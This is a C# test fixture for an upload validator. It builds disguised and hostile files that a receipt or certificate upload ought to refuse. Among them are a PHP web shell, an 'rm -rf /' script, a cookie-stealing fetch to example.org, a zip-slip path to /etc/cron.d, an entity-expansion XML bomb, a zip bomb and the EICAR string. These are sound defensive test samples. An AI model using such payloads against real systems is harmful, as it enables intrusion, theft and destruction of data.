using System.IO.Compression;
using System.Text;

namespace LaraOchBemastra.Tests.Evidence;

/// <summary>A file somebody should not be able to leave, as it would be sent.</summary>
/// <param name="Name">What it is, in words.</param>
/// <param name="SentAs">Its name.</param>
/// <param name="SentType">Its type, as claimed.</param>
/// <param name="Content">Its bytes.</param>
/// <param name="Code">Of the refusal.</param>
internal sealed record HostileFile(string Name, string SentAs, string SentType, byte[] Content, string Code);

/// <summary>Made here, each from what it is known for; none was taken from anywhere.</summary>
internal static partial class HostileFiles
{
    private const string Jpeg = "image/jpeg";
    private const string Png = "image/png";
    private const string Pdf = "application/pdf";

    private const string Unknown = "evidence.kind-unknown";
    private const string Damaged = "evidence.damaged";
    private const string Mixed = "evidence.mixed";
    private const string Active = "evidence.active";
    private const string NotCheckable = "evidence.not-checkable";
    private const string Inflates = "evidence.inflates";
    private const string Harmful = "evidence.harmful";
    private const string Pixels = "evidence.too-many-pixels";

    private static byte[] Program => [.. "MZ"u8, 0x90, 0, 3, 0, 0, 0, .. Text("This program cannot be run in DOS mode.")];

    private static byte[] Agreed => Text("X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-" + "ANTIVIRUS-TEST-FILE!$H+H*");

    private static byte[] Archive => Zip("kvitto.txt", Text("hej"));

    public static IReadOnlyList<HostileFile> All => [.. OtherKinds, .. Jpegs, .. Pngs, .. Pdfs];

    private static IEnumerable<HostileFile> OtherKinds =>
    [
        new("a page called a photograph", "kvitto.jpg", Jpeg, Text("<html><script>alert(1)</script></html>"), Unknown),
        new("a drawing with a script called a picture", "kvitto.png", Png, Text("<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>"), Unknown),
        new("a drawing that says what it is", "kvitto.svg", "image/svg+xml", Text("<?xml version=\"1.0\"?><svg/>"), Unknown),
        new("a program called a document", "intyg.pdf", Pdf, Program, Unknown),
        new("a program for Linux called a photograph", "bild.jpg", Jpeg, [0x7F, .. "ELF"u8, 2, 1, 1, 0], Unknown),
        new("an archive called a document", "intyg.pdf", Pdf, Archive, Unknown),
        new("a document of a word processor", "intyg.docx", "application/vnd.openxmlformats-officedocument.wordprocessingml.document", Zip("word/document.xml", Text("<w:document/>")), Unknown),
        new("an archive that unpacks to very much", "kvitton.zip", "application/zip", Zip("stor.txt", new byte[20_000_000]), Unknown),
        new("an archive whose file climbs out of its folder", "kvitton.zip", "application/zip", Zip("../../etc/cron.d/x", Text("x")), Unknown),
        new("a moving picture", "kvitto.gif", "image/gif", [.. "GIF89a"u8, 1, 0, 1, 0, 0, 0, 0, (byte)';'], Unknown),
        new("a bitmap", "kvitto.bmp", "image/bmp", [.. "BM"u8, .. new byte[52]], Unknown),
        new("a fax", "kvitto.tif", "image/tiff", [.. "II"u8, 42, 0, 8, 0, 0, 0], Unknown),
        new("a web picture called a photograph", "kvitto.jpg", Jpeg, [.. "RIFF"u8, 4, 0, 0, 0, .. "WEBPVP8 "u8], Unknown),
        new("a photograph of a kind browsers do not show", "IMG_0001.HEIC", "image/heic", [0, 0, 0, 24, .. "ftypheic"u8, .. new byte[12]], "evidence.heic"),
        new("the same called a photograph they do", "IMG_0001.jpg", Jpeg, [0, 0, 0, 24, .. "ftypmif1"u8, .. new byte[12]], "evidence.heic"),
        new("a film called a photograph", "kvitto.jpg", Jpeg, [0, 0, 0, 24, .. "ftypisom"u8, .. new byte[12]], Unknown),
        new("plain text called a document", "intyg.pdf", Pdf, Text("Jag intygar att hon var borta."), Unknown),
        new("nothing at all", "kvitto.jpg", Jpeg, [], "evidence.file-missing"),
        new("a server's script called a photograph", "kvitto.php.jpg", Jpeg, Text("<?php system($_GET['c']); ?>"), Unknown),
        new("a shell's script called a picture", "kvitto.png", Png, Text("#!/bin/sh\nrm -rf /\n"), Unknown),
        new("a browser's script", "kvitto.jpg.js", "text/javascript", Text("fetch('//example.org/'+document.cookie)"), Unknown),
        new("entities that multiply", "kvitto.xml", "application/xml", Text("<!DOCTYPE x [<!ENTITY a \"aaaa\"><!ENTITY b \"&a;&a;\">]><x>&b;</x>"), Unknown),
        new("what scanners agreed to find", "kvitto.com", "application/octet-stream", Agreed, Harmful),
        new("a file over ten megabytes", "kvitto.jpg", Jpeg, MadeJpeg.Whole([.. Enumerable.Repeat(MadeJpeg.Remark(0xFE, new string('x', 65_000)), 170)]), "evidence.too-large"),
        new("a page before a document", "intyg.pdf", Pdf, [.. "<html>"u8, .. MadePdf.OnePage().Written()], Unknown),
    ];

    public static byte[] Text(string text) => Encoding.Latin1.GetBytes(text);

    private static byte[] Zip(string name, byte[] content)
    {
        using var archive = new MemoryStream();
        using (var writer = new ZipArchive(archive, ZipArchiveMode.Create, leaveOpen: true))
        {
            using var entry = writer.CreateEntry(name, CompressionLevel.Fastest).Open();
            entry.Write(content);
        }

        return archive.ToArray();
    }
}
